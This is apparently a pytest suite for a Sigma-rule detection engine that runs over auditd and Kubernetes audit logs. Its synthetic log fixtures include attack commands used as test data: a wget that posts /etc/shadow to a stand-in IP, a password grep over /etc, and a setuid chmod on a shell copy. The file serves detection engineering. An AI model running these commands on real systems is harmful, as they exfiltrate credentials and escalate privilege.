"""Detections: Sigma rules through pySigma, compiled to Arrow compute, over auditd records and
Kubernetes requests. Every modifier the pinned SigmaHQ rules use, event and request identity,
rules that cannot run, the built-in pack (each rule fires on what it is about and not on its
near miss), the CLI and the public API."""

from __future__ import annotations

import json
import textwrap
from collections import Counter
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from click.testing import CliRunner

pytest.importorskip("sigma", reason="pySigma (the detect extra) is not installed")

import auditlens  # noqa: E402
from auditlens.cli import cli  # noqa: E402
from auditlens.detections import load_rules, run_detections  # noqa: E402
from auditlens.errors import AuditlensError  # noqa: E402

# --- building inputs ---------------------------------------------------------------------------

_T0 = 1_790_000_000


def rec(serial: int, rtype: str, body: str, t: float | None = None) -> str:
    """One raw auditd line."""
    return f"type={rtype} msg=audit({t if t is not None else _T0 + serial}.000:{serial}): {body}"


def syscall(serial: int, name_nr: int, exe: str, extra: str = "", t: float | None = None) -> str:
    comm = exe.rsplit("/", 1)[-1]
    return rec(serial, "SYSCALL", f"arch=c000003e syscall={name_nr} success=yes exit=0 a0=3 a1=1ed "
               f"a2=0 a3=0 items=1 ppid=1 pid=100 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 "
               f"egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"{comm}\" exe=\"{exe}\" {extra}"
               f"key=(null)", t)


def execve(serial: int, *argv: str) -> str:
    args = " ".join(f'a{i}="{a}"' if " " not in a else f"a{i}={a.encode().hex().upper()}"
                    for i, a in enumerate(argv))
    return rec(serial, "EXECVE", f"argc={len(argv)} {args}")


def path(serial: int, name: str, nametype: str = "NORMAL") -> str:
    return rec(serial, "PATH", f'item=0 name="{name}" inode=1 dev=fe:00 mode=0100644 ouid=0 '
               f"ogid=0 rdev=00:00 nametype={nametype}")


def k8s_event(**over: Any) -> dict[str, Any]:
    event: dict[str, Any] = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": over.pop("auditID", "id-1"), "stage": "ResponseComplete",
        "requestURI": "/api/v1/namespaces/shop/pods", "verb": "get",
        "user": {"username": "alice", "groups": ["system:authenticated"]},
        "sourceIPs": ["10.1.2.3"], "userAgent": "kubectl/v1.30",
        "objectRef": {"resource": "pods", "namespace": "shop", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 200},
        "requestReceivedTimestamp": "2026-11-01T10:00:00.000000Z",
        "stageTimestamp": "2026-11-01T10:00:00.100000Z",
        "annotations": {"authorization.k8s.io/decision": "allow"},
    }
    for key, value in over.items():
        if key == "objectRef":
            event["objectRef"].update(value)
        else:
            event[key] = value
    return event


def auditd_table(tmp_path: Path, lines: list[str]) -> pa.Table:
    log = tmp_path / "audit.log"
    log.write_text("\n".join(lines) + "\n")
    return auditlens.read_auditd_records(log)


def k8s_table(tmp_path: Path, events: list[dict[str, Any]]) -> pa.Table:
    log = tmp_path / "k8s-audit.log"
    log.write_text("".join(json.dumps(e) + "\n" for e in events))
    return auditlens.read_k8s_audit(log)


def rule_file(tmp_path: Path, detection: str, *, product: str = "linux", service: str = "auditd",
              name: str = "r.yml", level: str = "medium") -> Path:
    folder = tmp_path / "rules" / name.removesuffix(".yml")
    folder.mkdir(parents=True, exist_ok=True)
    text = textwrap.dedent(f"""\
        title: test rule {name}
        id: 00000000-0000-4000-8000-{abs(hash(name)) % 10**12:012d}
        status: test
        author: tester
        logsource:
            product: {product}
            service: {service}
        detection:
        """) + textwrap.indent(textwrap.dedent(detection), "    ") + f"level: {level}\n"
    (folder / name).write_text(text)
    return folder


def hits(table: pa.Table, tmp_path: Path, detection: str, **kw: Any) -> pa.Table:
    """Matches of one rule over one table (the built-in pack left out)."""
    product = "kubernetes" if "audit_id" in table.column_names else "linux"
    service = "audit" if product == "kubernetes" else "auditd"
    folder = rule_file(tmp_path, detection, product=product, service=service, **kw)
    result = run_detections([table], [folder], builtin=False)
    fates = result.rules.to_pylist()
    assert all(f["applicable"] for f in fates), fates
    return result.matches


# --- the pinned SigmaHQ rules ------------------------------------------------------------------

def test_every_pinned_sigma_rule_compiles_or_says_why(corpora: Path) -> None:
    """Every rule file of the pinned SigmaHQ copy is loaded by pySigma and either compiled or
    listed with a reason; all 53 auditd and 16 Kubernetes rules of rules/ compile."""
    folder = corpora / "sigma"
    files = sorted(folder.rglob("*.yml"))
    rules = load_rules([folder], builtin=False)
    compiled = Counter(r.view.source for r in rules.rules)
    print(f"\n{len(files)} rule files: {len(rules.rules)} compiled ({dict(compiled)}), "
          f"{len(rules.skipped)} not applicable:")
    for s in rules.skipped:
        print(f"  {s.info.file}: {s.reason}")
    assert len(rules.rules) + len(rules.skipped) == len(files)
    assert all(s.reason for s in rules.skipped)
    main = {r.info.file for r in rules.rules if r.info.file.startswith("rules/")}
    expected = {p.relative_to(folder).as_posix() for p in (folder / "rules").rglob("*.yml")}
    assert main == expected
    assert compiled["auditd"] >= 54 and compiled["k8s"] == 16
    near = [r for r in rules.rules if r.info.file.endswith("lnx_auditd_cve_2021_4034.yml")]
    assert near and near[0].node.kind == "event_and"


def test_every_rule_runs_over_the_sample_logs(corpora: Path) -> None:
    """Compiled is not enough: each compiled rule evaluates over real tables without error (the
    sample Kubernetes log holds request bodies, so the body rules run too); the rules not run
    are exactly those that did not compile."""
    rules = load_rules([corpora / "sigma"])
    result = run_detections(["sample_logs"], rules)
    fates = result.rules.to_pylist()
    not_run = [f for f in fates if not f["applicable"]]
    print(f"\n{result.summary()}")
    for f in not_run:
        print(f"  not run: {f['rule_file']}: {f['reason']}")
    assert result.matches.num_rows > 0
    assert sorted(f["rule_file"] for f in not_run) == sorted(s.info.file for s in rules.skipped)


def _naive_field(node: Any, view: Any) -> Any:
    """A field test the plain way, as a reference: the matcher over every row of the column
    (lowercased whole when case-insensitive), no shared masks, no distinct values."""
    import numpy as np
    import pyarrow.compute as pc

    m = node.matcher
    col = view.column(node.name, m.numeric)
    hit = pc.fill_null(m.apply(col.values if m.cased else pc.utf8_lower(col.values)), False)
    if col.rows is None:
        return hit
    rows = pc.filter(col.rows, hit).to_numpy() if m.presence is None else col.rows.to_numpy()
    mask = np.zeros(view.num_rows, dtype=bool)
    mask[rows] = True
    return pa.array(mask if m.presence is not False else ~mask)


def test_shared_evaluation_matches_each_rule_alone(corpora: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """All rules run together (predicates shared, tested on distinct values) give exactly the
    matches of each rule run alone, the plain way, over the sample logs and the real auditd
    logs of the corpora, with every SigmaHQ rule and the built-in pack."""
    from auditlens.detections import compiler
    from auditlens.detections.engine import run_rules
    from auditlens.detections.loading import RuleSet

    rules = load_rules([corpora / "sigma"])
    auditd = auditlens.read_auditd_records(["sample_logs/auditd", corpora / "auditd"],
                                           rejects=auditlens.RejectLog())
    k8s = auditlens.read_k8s_audit(["sample_logs/k8s"])
    columns = ["rule_file", "serial", "audit_id", "file", "lines", "matched"]

    def rows(table: pa.Table) -> list[Any]:
        return sorted(map(repr, table.select(columns).to_pylist()))

    together = run_rules(RuleSet(rules=rules.rules), auditd=auditd, k8s=k8s).matches
    monkeypatch.setattr(compiler, "_eval_field", _naive_field)
    alone = pa.concat_tables([run_rules(RuleSet(rules=[r]), auditd=auditd, k8s=k8s).matches
                              for r in rules.rules])
    print(f"\n{together.num_rows} matches of {len(rules.rules)} rules over "
          f"{auditd.num_rows} records and {k8s.num_rows} Events")
    assert together.num_rows > 100 and len(set(together["rule_file"].to_pylist())) > 10
    assert rows(together) == rows(alone)


# --- modifiers ------------------------------------------------------------------------------

@pytest.fixture
def records(tmp_path: Path) -> pa.Table:
    return auditd_table(tmp_path, [
        syscall(1, 59, "/usr/bin/wget"),
        execve(1, "wget", "--post-file=/etc/shadow", "http://198.51.100.7/up"),
        syscall(2, 59, "/usr/bin/grep"),
        execve(2, "grep", "-ri", "PassWord", "/etc"),
        syscall(3, 90, "/usr/bin/chmod"),   # chmod(2) on x86_64
        execve(3, "chmod", "4755", "/tmp/x y"),  # a2 has a space: logged as hex
        path(3, "/tmp/x y"),
        syscall(4, 59, "/usr/sbin/init_module_tool"),
        execve(4, "kmod", "42"),             # "42" quoted: looks like hex, is not
        syscall(5, 257, "/usr/bin/cat"),     # openat, no EXECVE
        path(5, "/etc/audit/auditd.conf"),
    ])


@pytest.mark.parametrize(("detection", "serials"), [
    ("sel:\n    type: EXECVE\n    a0: wget\n    a1|startswith: '--post-file='\ncondition: sel\n", [1]),
    ("sel:\n    type: EXECVE\n    a1|endswith: 'SHADOW'\ncondition: sel\n", [1]),        # case-insensitive
    ("sel:\n    type: EXECVE\n    a1|endswith|cased: 'SHADOW'\ncondition: sel\n", []),   # |cased
    ("sel:\n    type: EXECVE\n    a2|contains: 'password'\ncondition: sel\n", [2]),
    ("sel:\n    a0|contains|all: ['wg', 'et']\ncondition: sel\n", [1]),
    ("sel:\n    a0|contains|all: ['wg', 'xx']\ncondition: sel\n", []),
    ("sel:\n    a2|re: '^http://[0-9.]+/'\ncondition: sel\n", [1]),
    ("sel:\n    a0: 'w?e*'\ncondition: sel\n", [1]),                                      # wildcards
    ("sel:\n    a0:\n        - grep\n        - chmod\ncondition: sel\n", [2, 3]),        # lists
    ("sel_a:\n    a0: grep\nsel_b:\n    a0: kmod\ncondition: 1 of sel_*\n", [2, 4]),
    ("sel_a:\n    type: EXECVE\nsel_b:\n    a0: kmod\ncondition: all of sel_*\n", [4]),
    ("sel:\n    type: EXECVE\nfilter:\n    a0: grep\ncondition: sel and not filter\n", [1, 3, 4]),
    ("sel:\n    type: EXECVE\nkw:\n    '|all':\n        - grep\n        - password\ncondition: sel and kw\n", [2]),
    ("kw:\n    - 'x y'\ncondition: kw\n", [3]),                                          # hex decoded
    ("sel:\n    type: EXECVE\n    a1: '42'\ncondition: sel\n", [4]),                   # not decoded
    ("sel:\n    type: SYSCALL\n    SYSCALL: chmod\ncondition: sel\n", [3]),              # RAW → name
    ("sel:\n    type: SYSCALL\n    syscall: 257\ncondition: sel\n", [5]),                # number
    ("sel:\n    type: SYSCALL\n    euid: 0\n    exe|endswith: '/cat'\ncondition: sel\n", [5]),
    ("sel:\n    type: PATH\n    name: /etc/audit/*\ncondition: sel\n", [5]),
    ("sel:\n    type: EXECVE\n    a3: null\n    a0: grep\ncondition: sel\n", []),
    ("sel:\n    type: EXECVE\n    a3: null\ncondition: sel\n", [1, 3, 4]),
])
def test_modifiers(records: pa.Table, tmp_path: Path, detection: str, serials: list[int]) -> None:
    matches = hits(records, tmp_path, detection)
    assert sorted(matches["serial"].to_pylist()) == serials


def test_keywords_are_whole_words(tmp_path: Path) -> None:
    """``init`` and ``6`` (SigmaHQ's shutdown rule) must not match ``init_module`` and
    ``b64``; ``init 6`` matches."""
    table = auditd_table(tmp_path, [execve(1, "auditctl", "-S", "init_module", "-F", "arch=b64"),
                                    execve(2, "init", "6")])
    matches = hits(table, tmp_path, "sel:\n    type: EXECVE\ninit:\n    - init\nlevel6:\n    - 6\n"
                                   "condition: sel and init and level6\n")
    assert matches["serial"].to_pylist() == [2]


def test_selections_on_different_record_types_match_within_an_event(records: pa.Table,
                                                                     tmp_path: Path) -> None:
    """``type: SYSCALL`` and ``type: PATH`` ANDed cannot both hold for one record: they are
    matched per event (serial), and the match lists the lines of both records."""
    detection = ("sys:\n    type: SYSCALL\n    exe|endswith: /cat\npth:\n    type: PATH\n"
                 "    name|startswith: /etc/audit/\ncondition: sys and pth\n")
    matches = hits(records, tmp_path, detection)
    assert matches["serial"].to_pylist() == [5]
    assert len(matches["lines"][0].as_py()) == 2
    negated = detection.replace("condition: sys and pth", "condition: pth and not sys")
    assert hits(records, tmp_path, negated, name="neg.yml").num_rows == 0


def test_near_joins_the_records_of_one_event(tmp_path: Path) -> None:
    """The deprecated ``a | near b`` (SigmaHQ's pkexec rule) is honoured per event."""
    table = auditd_table(tmp_path, [
        syscall(1, 59, "/usr/bin/pkexec"), rec(1, "PROCTITLE", "proctitle=(null)"),
        syscall(2, 59, "/usr/bin/pkexec"), rec(2, "PROCTITLE", "proctitle=706B65786563"),
    ])
    matches = hits(table, tmp_path, "p:\n    type: PROCTITLE\n    proctitle: '(null)'\n"
                   "s:\n    type: SYSCALL\n    exe: /usr/bin/pkexec\ncondition: p | near s\n")
    assert matches["serial"].to_pylist() == [1]


def test_a_match_is_one_event_with_its_identity(records: pa.Table, tmp_path: Path) -> None:
    matches = hits(records, tmp_path, "sel:\n    type:\n        - SYSCALL\n        - EXECVE\n"
                   "    exe|endswith: /wget\nsel2:\n    a0: wget\ncondition: 1 of sel*\n")
    row = matches.to_pylist()
    assert len(row) == 1 and row[0]["serial"] == 1
    assert row[0]["lines"] == [1, 2] and row[0]["file"].endswith("audit.log")
    assert row[0]["action"] == "execve" and row[0]["actor"] == "auid=1000"
    assert row[0]["rule_author"] == "tester" and row[0]["source"] == "auditd"


def test_rules_naming_fields_auditd_has_not_are_not_run(tmp_path: Path) -> None:
    folder = rule_file(tmp_path, "sel:\n    Image|endswith: /wget\ncondition: sel\n")
    result = run_detections([auditd_table(tmp_path, [execve(1, "wget")])], [folder], builtin=False)
    fate = result.rules.to_pylist()[0]
    assert not fate["applicable"] and "'Image'" in fate["reason"]


def test_parts_keep_events_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The input runs through the rules a part at a time; an event cut by a part's end waits
    for the next part, so a rule over two of its records still matches it once."""
    from auditlens.detections import api

    lines = []
    for serial in range(1, 40):
        lines += [syscall(serial, 257, "/usr/bin/cat"), path(serial, f"/etc/audit/f{serial}")]
    log = tmp_path / "audit.log"
    log.write_text("\n".join(lines) + "\n")
    folder = rule_file(tmp_path, "s:\n    type: SYSCALL\n    exe|endswith: /cat\np:\n    type: PATH\n"
                       "    name|startswith: /etc/audit/\ncondition: s and p\n")
    whole = run_detections([log], [folder], builtin=False).matches
    monkeypatch.setattr(api, "AUDITD_PART", 7)
    parts = list(api.auditd_parts(auditlens.open_auditd_records(log, batch_size=3), 7))
    assert len(parts) > 5 and sum(p.num_rows for p in parts) == len(lines)
    cut = run_detections([log], [folder], builtin=False).matches
    assert whole.num_rows == cut.num_rows == 39
    assert cut["serial"].to_pylist() == list(range(1, 40))


def test_an_event_whose_records_lie_far_apart_is_not_cut(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """An event with no EOE yet at a part's end waits for the next part however many records
    of other events lie between its records (here 5 000, across the part's end); events that
    are complete (EOE) run in their part."""
    from auditlens.detections import api

    def filler(first: int, n: int) -> list[str]:
        return [line for s in range(first, first + n)
                for line in (syscall(s, 2, "/usr/bin/ls", t=_T0), rec(s, "EOE", "", t=_T0))]

    lines = [*filler(10, 2_500), syscall(1, 257, "/usr/bin/cat", t=_T0), *filler(3_000, 2_500),
             path(1, "/etc/audit/auditd.conf").replace(f"{_T0 + 1}.000", f"{_T0}.000"),
             rec(1, "EOE", "", t=_T0)]
    log = tmp_path / "audit.log"
    log.write_text("\n".join(lines) + "\n")
    folder = rule_file(tmp_path, "s:\n    type: SYSCALL\n    exe|endswith: /cat\np:\n    type: PATH\n"
                       "    name|startswith: /etc/audit/\ncondition: s and p\n")
    monkeypatch.setattr(api, "AUDITD_PART", 8_000)
    parts = list(api.auditd_parts(auditlens.open_auditd_records(log), 8_000))
    assert len(parts) == 2 and sum(p.num_rows for p in parts) == len(lines)
    got = run_detections([log], [folder], builtin=False).matches.to_pylist()
    assert [(m["serial"], m["lines"]) for m in got] == [(1, [5_001, len(lines) - 1])]
    assert got[0]["actor"] == "auid=1000" and got[0]["object"] == "/etc/audit/auditd.conf"


def test_a_request_read_in_two_parts_matches_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from auditlens.detections import api

    log = tmp_path / "k8s.log"
    log.write_text("".join(json.dumps(e) + "\n" for e in [
        k8s_event(auditID="a1", stage="RequestReceived", responseStatus=None),
        k8s_event(auditID="a2"), k8s_event(auditID="a1")]))
    monkeypatch.setattr(api, "K8S_PART", 1)
    folder = rule_file(tmp_path, "sel:\n    verb: get\ncondition: sel\n",
                       product="kubernetes", service="audit")
    matches = run_detections([log], [folder], builtin=False).matches
    assert sorted(matches["audit_id"].to_pylist()) == ["a1", "a2"]


# --- Kubernetes -------------------------------------------------------------------------------

def test_one_match_per_request_not_per_stage(tmp_path: Path) -> None:
    received = k8s_event(auditID="a1", stage="RequestReceived", responseStatus=None)
    done = k8s_event(auditID="a1")
    other = k8s_event(auditID="a2", verb="list")
    table = k8s_table(tmp_path, [received, done, other])
    matches = hits(table, tmp_path, "sel:\n    verb: get\n    objectRef.resource: pods\ncondition: sel\n")
    assert matches["audit_id"].to_pylist() == ["a1"]
    assert matches["object"].to_pylist() == ["shop/pods"]


@pytest.mark.parametrize(("detection", "ids"), [
    ("sel:\n    responseStatus.code:\n        - 401\n        - 403\ncondition: sel\n", ["b"]),
    ("sel:\n    sourceIPs|cidr: 10.0.0.0/8\ncondition: sel\n", ["a"]),
    ("sel:\n    user.groups: system:unauthenticated\ncondition: sel\n", ["b"]),
    ("sel:\n    annotations.authorization.k8s.io/decision: forbid\ncondition: sel\n", ["b"]),
    ("sel:\n    apiGroup: apps\ncondition: sel\n", ["b"]),
])
def test_k8s_paths(tmp_path: Path, detection: str, ids: list[str]) -> None:
    table = k8s_table(tmp_path, [
        k8s_event(auditID="a"),
        k8s_event(auditID="b", sourceIPs=["192.0.2.9"], responseStatus={"code": 403},
                  user={"username": "system:anonymous", "groups": ["system:unauthenticated"]},
                  objectRef={"apiGroup": "apps", "resource": "deployments"},
                  annotations={"authorization.k8s.io/decision": "forbid"}),
    ])
    assert hits(table, tmp_path, detection)["audit_id"].to_pylist() == ids


def test_body_rules_on_a_metadata_log_are_not_run_with_the_reason(tmp_path: Path) -> None:
    table = k8s_table(tmp_path, [k8s_event(verb="create")])
    folder = rule_file(tmp_path, "sel:\n    verb: create\n    hostPath: '*'\ncondition: sel\n",
                       product="kubernetes", service="audit")
    fate = run_detections([table], [folder], builtin=False).rules.to_pylist()[0]
    assert not fate["applicable"]
    assert "requestObject" in fate["reason"] and "Request" in fate["reason"]


# --- the built-in pack -------------------------------------------------------------------------

def _pod(**spec: Any) -> dict[str, Any]:
    return {"kind": "Pod", "spec": {"containers": [{"name": "c", "image": "x"}], **spec}}


def _body(obj: dict[str, Any], **over: Any) -> dict[str, Any]:
    return k8s_event(level="RequestResponse", verb="create", requestObject=obj, **over)


_SSH_FAIL = ('pid=9 uid=0 auid=4294967295 ses=4294967295 msg=\'op=PAM:authentication grantors=? '
             'acct="bob" exe="/usr/sbin/sshd" hostname=192.0.2.1 addr=192.0.2.1 terminal=ssh res=failed\'')
_SSH_OK = _SSH_FAIL.replace("res=failed", "res=success")

BUILTIN: list[tuple[str, str, list[Any], list[Any]]] = [
    ("Audit Rules Deleted", "auditd",
     [rec(1, "CONFIG_CHANGE", 'auid=0 ses=1 op=remove_rule key="identity" list=4 res=1')],
     [rec(1, "CONFIG_CHANGE", 'auid=0 ses=1 op=add_rule key="identity" list=4 res=1')]),
    ("Audit Daemon Stopped or Auditing Disabled", "auditd",
     [rec(1, "DAEMON_END", "op=terminate auid=0 pid=1 res=success")],
     [rec(1, "DAEMON_START", "op=start ver=3.1 format=raw auid=0 pid=1 res=success")]),
    ("Audit Log Files Deleted, Renamed or Truncated", "auditd",
     [syscall(1, 87, "/usr/bin/rm"), path(1, "/var/log/audit/audit.log.1", "DELETE")],
     [syscall(1, 87, "/usr/sbin/auditd"), path(1, "/var/log/audit/audit.log.4", "DELETE")]),
    ("Audit Log Forwarding Configuration Removed or Replaced", "auditd",
     [syscall(1, 87, "/usr/bin/rm"), path(1, "/etc/audit/plugins.d/au-remote.conf", "DELETE")],
     [syscall(1, 257, "/usr/bin/cat"), path(1, "/etc/audit/plugins.d/au-remote.conf")]),
    ("Set-user-ID Bit Set on a File", "auditd",
     [execve(1, "chmod", "u+s", "/tmp/sh")], [execve(1, "chmod", "u+x", "/tmp/sh")]),
    ("Kernel Module Loaded", "auditd",
     [rec(1, "SYSCALL", 'arch=c000003e syscall=313 success=yes exit=0 a0=3 a1=0 a2=0 a3=0 items=0 '
          'ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 '
          'ses=1 comm="modprobe" exe="/usr/bin/kmod" key="module-load"')],
     [rec(1, "SYSCALL", 'arch=c000003e syscall=176 success=yes exit=0 a0=3 a1=0 a2=0 a3=0 items=0 '
          'ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 '
          'ses=1 comm="rmmod" exe="/usr/bin/kmod" key="module-load"')]),
    ("SSH Brute Force Followed by a Successful Login", "auditd",
     [*(rec(i, "USER_AUTH", _SSH_FAIL) for i in range(1, 7)), rec(9, "USER_AUTH", _SSH_OK)],
     [*(rec(i, "USER_AUTH", _SSH_FAIL) for i in range(1, 4)), rec(9, "USER_AUTH", _SSH_OK)]),
    ("Kubernetes Audit Log Forwarding or Audit Policy Changed", "k8s",
     [k8s_event(verb="delete", objectRef={"resource": "clusterlogforwarders"})],
     [k8s_event(verb="get", objectRef={"resource": "clusterlogforwarders"})]),
    ("Kubernetes Privileged or Host-Namespace Workload Created", "k8s",
     [_body(_pod(hostPID=True))],
     [_body(_pod(hostPID=False))]),
    ("Kubernetes Exec, Attach or Port-Forward into a Pod", "k8s",
     [k8s_event(verb="create", objectRef={"subresource": "exec"})],
     [k8s_event(verb="get", objectRef={"subresource": "log"})]),
    ("Kubernetes Binding to cluster-admin Created", "k8s",
     [_body({"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}},
            objectRef={"resource": "clusterrolebindings"})],
     [_body({"roleRef": {"kind": "ClusterRole", "name": "view"}},
            objectRef={"resource": "clusterrolebindings"})]),
    ("Kubernetes Role with Wildcard Rules Created", "k8s",
     [_body({"rules": [{"verbs": ["get"], "resources": ["pods"]}, {"verbs": ["*"], "resources": ["x"]}]},
            objectRef={"resource": "clusterroles"})],
     [_body({"rules": [{"verbs": ["get"], "resources": ["pods*"]}]},
            objectRef={"resource": "clusterroles"})]),
    ("Kubernetes Secrets Read by a Person", "k8s",
     [k8s_event(verb="get", objectRef={"resource": "secrets"})],
     [k8s_event(verb="get", objectRef={"resource": "secrets"},
                user={"username": "system:serviceaccount:kube-system:x"})]),
    ("Kubernetes Anonymous Request Allowed", "k8s",
     [k8s_event(user={"username": "system:anonymous"}, requestURI="/api/v1/secrets")],
     [k8s_event(user={"username": "system:anonymous"}, requestURI="/healthz")]),
]


def test_the_pack_is_covered_by_this_table() -> None:
    titles = {r.info.title for r in load_rules().rules if r.info.level != "informational"}
    titles |= {c.info.title for c in load_rules().correlations if c.info.level != "medium"}
    assert titles == {b[0] for b in BUILTIN}


@pytest.mark.parametrize(("title", "source", "fires", "quiet"), BUILTIN, ids=[b[0] for b in BUILTIN])
def test_builtin_rule(tmp_path: Path, title: str, source: str, fires: list[Any],
                      quiet: list[Any]) -> None:
    def titles(items: list[Any], sub: str) -> list[str]:
        d = tmp_path / sub
        d.mkdir()
        table = auditd_table(d, items) if source == "auditd" else k8s_table(d, items)
        return run_detections([table]).matches["rule_title"].to_pylist()

    assert title in titles(fires, "fires")
    assert title not in titles(quiet, "quiet")


# --- CLI and API ------------------------------------------------------------------------------

def test_cli_detect_exit_status_and_summary(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_text(rec(1, "DAEMON_END", "op=terminate auid=0 pid=1 res=success") + "\n")
    out = tmp_path / "hits.csv"
    got = CliRunner().invoke(cli, ["detect", str(log), "-o", str(out)])
    assert got.exit_code == 3, got.output
    assert "1 matches (1 high)" in got.stderr and "0 input lines rejected" in got.stderr
    assert "Audit Daemon Stopped" in out.read_text()
    quiet = tmp_path / "quiet.log"
    quiet.write_text(rec(1, "DAEMON_START", "op=start auid=0 pid=1 res=success") + "\n")
    got = CliRunner().invoke(cli, ["detect", str(quiet), "-f", "jsonl"])
    assert got.exit_code == 0 and got.stdout == ""
    got = CliRunner().invoke(cli, ["detect", str(log), "--level", "critical", "-f", "json"])
    assert got.exit_code == 0 and json.loads(got.stdout) == []


def test_cli_reports_rules_that_do_not_run(tmp_path: Path) -> None:
    log = tmp_path / "k8s.log"
    log.write_text(json.dumps(k8s_event()) + "\n")
    fates = tmp_path / "rules.csv"
    got = CliRunner().invoke(cli, ["detect", str(log), "--rules-out", str(fates), "-f", "md"])
    assert got.exit_code == 0, got.output
    assert "rule not run: builtin/k8s_privileged_pod.yml: needs the requestObject" in got.stderr
    assert "no auditd input" in fates.read_text()


def test_cli_bad_rule_file_is_named_not_fatal(tmp_path: Path) -> None:
    (tmp_path / "bad.yml").write_text("title: [unclosed\n")
    log = tmp_path / "audit.log"
    log.write_text(rec(1, "DAEMON_START", "op=start auid=0 pid=1 res=success") + "\n")
    got = CliRunner().invoke(cli, ["detect", str(log), "--rules", str(tmp_path / "bad.yml")])
    assert got.exit_code == 0 and "Traceback" not in got.output
    assert "rule not run: bad.yml: not valid YAML" in got.stderr
    got = CliRunner().invoke(cli, ["detect", str(log), "--rules", str(tmp_path / "none.yml")])
    assert got.exit_code == 2 and "does not exist" in got.stderr


def test_detect_api_takes_tables_and_refuses_others(tmp_path: Path) -> None:
    table = auditd_table(tmp_path, [rec(1, "DAEMON_END", "op=terminate auid=0 pid=1 res=success")])
    found = auditlens.detect(table)
    assert found["rule_title"].to_pylist() == ["Audit Daemon Stopped or Auditing Disabled"]
    assert int(found.schema.metadata[b"auditlens.rules_not_applicable"]) > 0  # k8s rules: no input
    with pytest.raises(AuditlensError, match="auditd_records"):
        auditlens.detect(auditlens.read_auditd(tmp_path / "audit.log"))


def test_missing_pysigma_is_a_clear_error(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "sigma", None)
    with pytest.raises(AuditlensError, match=r"auditlens\[detect\]"):
        auditlens.detect(tmp_path)
